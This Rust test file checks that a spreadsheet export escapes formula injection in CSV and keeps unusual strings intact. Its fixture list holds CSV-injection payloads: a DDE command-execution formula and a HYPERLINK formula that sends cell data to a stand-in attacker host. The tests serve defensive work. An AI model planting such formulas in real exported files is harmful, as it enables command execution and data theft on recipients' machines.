//! What a spreadsheet must not run, and texts that break formats.

use calamine::Data;
use serde_json::{Value, json};

use super::read_back::{column, options, records, sheets, text, written, written_as};
use crate::exporting::format::Format;
use crate::exporting::formula::is_formula;
use crate::exporting::rows::Options;
use crate::warehouse::cells::CellType;

const FORMULAS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\u{FEFF}=1+1",
    "=\"\"\"\"",
    "=1,=2;=3",
];

#[test]
fn texts_and_headers_that_would_run_do_not() {
    let columns =
        [column("=2+3", CellType::Text), column("\u{FEFF}@x", CellType::Text), column("-n", CellType::Integer)];
    let rows: Vec<Vec<Value>> = FORMULAS.iter().map(|text| vec![json!(text), Value::Null, json!(-5)]).collect();
    let read = records(&written(Format::Csv, &columns, &rows));
    assert_eq!(read[0], ["'=2+3", "'\u{FEFF}@x", "'-n"]);
    for (record, formula) in read[1..].iter().zip(FORMULAS) {
        assert_eq!(*record, [format!("'{formula}"), String::new(), "-5".to_owned()]);
        assert!(!is_formula(&record[0]));
    }
    let plain = Options { neutralises: false, ..options() };
    let read = records(&written_as(Format::Csv, &columns, &rows, &plain).unwrap());
    assert_eq!(read[0][0], "=2+3");
    assert!(read[1..].iter().zip(FORMULAS).all(|(record, formula)| record[0] == *formula));
    let book = sheets(written(Format::Xlsx, &columns, &rows));
    assert_eq!(book[0].1[0][0], Data::String("=2+3".to_owned()));
    for (row, formula) in book[0].1[1..].iter().zip(FORMULAS) {
        assert_eq!((&row[0], &row[2]), (&Data::String((*formula).to_owned()), &Data::Float(-5.0)));
    }
}

#[test]
fn only_what_is_no_number_gets_an_apostrophe() {
    let columns = [
        column("a", CellType::Decimal),
        column("b", CellType::Float),
        column("c", CellType::Timestamp),
        column("d", CellType::Json),
    ];
    let rows = [
        vec![json!("-0.12345678901234567"), json!(-1e300), json!("-infinity"), json!(-1)],
        vec![json!("-Infinity"), json!("-Infinity"), json!("infinity"), json!("-1+1")],
    ];
    let expected =
        "a,b,c,d\r\n-0.12345678901234567,-1e+300,'-infinity,-1\r\n'-Infinity,'-Infinity,infinity,\"\"\"-1+1\"\"\"\r\n";
    assert_eq!(text(Format::Csv, &columns, &rows), expected);
}

#[test]
fn texts_that_break_formats_come_back_whole() {
    let texts = [
        "a,b",
        "a;b",
        "\"",
        "\"\"",
        "a\"b",
        "a\nb",
        "a\r\nb",
        "a\rb",
        " a ",
        "\u{1}\u{8}\u{b}\u{1f}",
        "_x0041_",
        "_x005F_x0041_",
        "&amp;<x>]]>",
        "\u{FFFE}",
        "\u{FFFF}",
        "\u{85}\u{2028}",
        "\u{202E}abc",
        "😀\u{1F468}\u{200D}\u{1F469}",
        "'",
        "''=1",
        "NULL",
        "\\N",
        "\\",
        "#REF!",
        "1e5",
        "007",
        "TRUE",
        "http://x.example",
        "mailto:x@x.example",
        "  ",
        "x\u{FEFF}",
    ];
    let columns = [column("a", CellType::Text), column("b", CellType::Integer)];
    let rows: Vec<Vec<Value>> = texts.iter().map(|text| vec![json!(text), json!(1)]).collect();
    let read = records(&written(Format::Csv, &columns, &rows));
    assert_eq!(read[1..].iter().map(|record| record[0].as_str()).collect::<Vec<_>>(), texts);
    let book = sheets(written(Format::Xlsx, &columns, &rows));
    let cells: Vec<&Data> = book[0].1[1..].iter().map(|row| &row[0]).collect();
    assert_eq!(cells, texts.map(|text| Data::String(text.to_owned())).iter().collect::<Vec<_>>());
}
